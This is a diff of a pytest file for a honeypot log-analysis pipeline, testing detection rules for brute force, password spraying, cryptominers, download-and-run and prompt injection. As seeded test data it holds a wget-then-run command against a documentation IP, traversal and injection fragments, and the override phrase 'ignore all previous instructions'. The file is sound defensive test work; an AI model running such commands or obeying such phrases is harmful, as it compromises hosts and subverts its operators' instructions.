@@ -1,16 +1,20 @@
 """Every rule speaks for its true examples and is silent on its near misses; thresholds and groups hold."""
 
-import re
+import time
 
 import pytest
 from sqlalchemy import Engine
 
 from rustbucket_pipeline.analysis.findings import Finding, evaluate, find
-from rustbucket_pipeline.analysis.rules import FieldName, Rule, load_rules, parse_rules
+from rustbucket_pipeline.analysis.matching import Matcher, matcher_of
+from rustbucket_pipeline.analysis.rules import AtLeast, FieldName, Per, Rule, load_rules, parse_rules
 from rustbucket_pipeline.errors import ConfigurationError
+from rustbucket_pipeline.storage.tables import log_events
 from rustbucket_pipeline_tests.analysis.seeding import WINDOW, command, event, login, request, tell
 
 RULES = {rule.id: rule for rule in load_rules()}
+READING = {rule.id: rule for rule in load_rules() if rule.match.wanted}
+MATCH = RULES["cryptominer"].match
 
 
 def found(engine: Engine) -> dict[str, Finding]:
@@ -38,23 +42,51 @@ def telling(rule: Rule, text: str, second: int) -> dict[str, object]:
     return event(kind, second, **columns)
 
 
-@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
-def test_a_rule_matches_its_examples_and_not_its_near_misses(database: Engine, rule: Rule) -> None:
-    alone = rule.model_copy(update={"at_least": rule.at_least.model_copy(update={"events": 1, "rustbuckets": 1})})
+@pytest.mark.parametrize("rule", READING.values(), ids=READING)
+def test_a_rule_matches_its_examples_and_not_its_near_misses(rule: Rule) -> None:
+    matcher = Matcher([rule])
     texts = [*rule.examples.hits, *rule.examples.misses]
-    ids = tell(database, [telling(rule, text, second) for second, text in enumerate(texts)])
-    with database.connect() as connection:
-        matched = evaluate(connection, alone, WINDOW).event_ids
-    assert [text for text, key in zip(texts, ids, strict=True) if key in matched] == list(rule.examples.hits)
+    assert [text for text in texts if matcher.matching(text)] == list(rule.examples.hits)
+    assert len(rule.examples.hits) >= 2
+    assert len(rule.examples.misses) >= 2
 
 
-@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
-def test_a_rule_that_reads_text_has_examples_of_both_kinds_and_linear_patterns(rule: Rule) -> None:
-    patterns = (*rule.match.all_of, *rule.match.none_of)
-    assert not any(re.search(r"\\[1-9]", pattern) for pattern in patterns), "a back reference isn't linear"
-    if patterns:
-        assert len(rule.examples.hits) >= 2
-        assert len(rule.examples.misses) >= 2
+@pytest.mark.parametrize("rule", READING.values(), ids=READING)
+def test_a_rule_has_an_example_that_no_other_rule_of_its_kind_matches(rule: Rule) -> None:
+    alike = [other for other in READING.values() if other.match.field is rule.match.field]
+    matcher = matcher_of(tuple(alike))
+    own = [text for text in rule.examples.hits if matcher.matching(text) == [alike.index(rule)]]
+    assert own, "another rule implies it, or is implied by it"
+
+
+def test_rows_are_found_by_each_field_a_rule_may_look_at(database: Engine) -> None:
+    for field in {rule.match.field for rule in READING.values()}:
+        rule = next(rule for rule in READING.values() if rule.match.field is field)
+        alone = rule.model_copy(update={"at_least": AtLeast(), "per": Per.WINDOW})
+        texts = [*rule.examples.hits, *rule.examples.misses]
+        ids = tell(database, [telling(rule, text, second) for second, text in enumerate(texts)])
+        with database.connect() as connection:
+            matched = evaluate(connection, alone, WINDOW).event_ids
+        with database.begin() as connection:
+            connection.execute(log_events.delete())
+        assert [text for text, key in zip(texts, ids, strict=True) if key in matched] == list(rule.examples.hits)
+
+
+def test_each_rule_is_told_apart_by_its_id_and_names_what_it_is_from() -> None:
+    assert len({rule.id for rule in load_rules()}) == len(load_rules())
+    assert all(rule.technique for rule in load_rules())
+
+
+def test_a_pattern_re2_cannot_read_is_the_mistake_of_its_rule() -> None:
+    with pytest.raises(ConfigurationError, match=r"rule cryptominer: RE2 can't read '\(a\)\\\\1'"):
+        Matcher([RULES["cryptominer"].model_copy(update={"match": MATCH.model_copy(update={"any_of": (r"(a)\1",)})})])
+
+
+def test_a_rule_wants_all_of_some_one_of_others_and_none_of_the_last() -> None:
+    match = MATCH.model_copy(update={"all_of": ("a", "b"), "any_of": ("c", "d"), "none_of": ("x",)})
+    matcher = Matcher([RULES["cryptominer"].model_copy(update={"match": match})])
+    told = ("abc", "bad", "ab", "abcx", "ac", "c", "")
+    assert [text for text in told if matcher.matching(text)] == ["abc", "bad"]
 
 
 def test_nineteen_failed_logins_are_no_brute_force_and_twenty_are(database: Engine) -> None:
@@ -79,11 +111,22 @@ def test_a_rare_credential_at_three_rustbuckets_is_a_campaign(database: Engine) 
     assert finding.examples == ("deploy:Winter2026!",)
 
 
+def test_one_password_for_many_users_is_spraying_and_no_guessing(database: Engine) -> None:
+    tell(database, [login(f"user{number}", "Winter2026!", number, src_ip="203.0.113.1") for number in range(25)])
+    assert set(found(database)) == {"password-spraying"}
+
+
+def test_a_text_for_a_model_counts_its_row_once_however_many_fields_hold_it(database: Engine) -> None:
+    order = "ignore all previous instructions"
+    tell(database, [login(order, order, fields={"note": order})])
+    assert found(database)["prompt-injection"].events == 1
+
+
 def test_findings_are_numbered_worst_first_with_their_first_rows(database: Engine) -> None:
-    ids = tell(database, [command("uname"), command("wget http://203.0.113.9/x; sh x", 2), command("nproc", 1)])
+    ids = tell(database, [command("uname"), command("wget http://203.0.113.9/x; ls", 2), command("nproc", 1)])
     findings = found(database)
     assert findings["download-and-run"].id == "F1"
-    assert findings["system-discovery"].id == "F2"
+    assert findings["system-discovery"].id == "F3"
     assert findings["system-discovery"].rows == (ids[0], ids[2])
 
 
@@ -105,8 +148,24 @@ def test_a_rule_file_with_a_mistake_is_named(database: Engine) -> None:
 
 
 def test_long_hostile_text_is_matched_in_bounded_time(database: Engine) -> None:
-    hostile = ["a" * 30_000 + "!", "../" * 10_000, "${" * 10_000, "wget " * 6_000, "@" * 30_000]
+    words = (
+        "a",
+        "../",
+        "${",
+        "wget ",
+        "@",
+        "ignore all ",
+        "rm -",
+        "&& cd ",
+        "echo \\\\x61",
+        "ssh -",
+        "report ",
+        "\u200b",
+    )
+    hostile = [word * (30_000 // len(word)) + "!" for word in words] + [" ".join(words) * 500]
     tell(database, [command(text) for text in hostile] + [request(text, 1) for text in hostile])
+    began = time.process_time()
     with database.connect() as connection:
-        connection.exec_driver_sql("SET statement_timeout = '2s'")
+        connection.exec_driver_sql("SET statement_timeout = '10s'")
         find(connection, WINDOW)
+    assert time.process_time() - began < 10
